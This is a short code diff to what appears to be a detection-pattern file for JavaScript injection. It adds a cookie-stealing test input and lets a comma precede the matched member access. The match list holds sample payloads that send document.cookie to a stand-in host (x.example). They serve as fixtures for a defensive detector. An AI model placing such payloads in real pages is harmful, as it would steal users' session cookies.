@@ -73,6 +73,7 @@ export const PAGE: readonly Pattern[] = [
     finds: [
       "fetch('//x.example/?' + document.cookie)",
       "send(document . cookie)",
+      "send('//x.example', document.cookie)",
       "`${document.cookie}`",
       "alert(document/*x*/.cookie)",
       "x='//x.example/'+document.domain",
@@ -87,7 +88,7 @@ export const PAGE: readonly Pattern[] = [
       "read(document.title)",
       "read(document.cookies)",
     ],
-    before: afterOneOfAndOws("(+!{`"),
+    before: afterOneOfAndOws("(+!{`,"),
     after: seq(jsDot, keyword(["cookie", "domain", "getitem"]), peek(choice(seq(ows, oneOf(")+}`;")), end))),
   }),
   pattern("js.lone-member", ["document", "window"], {
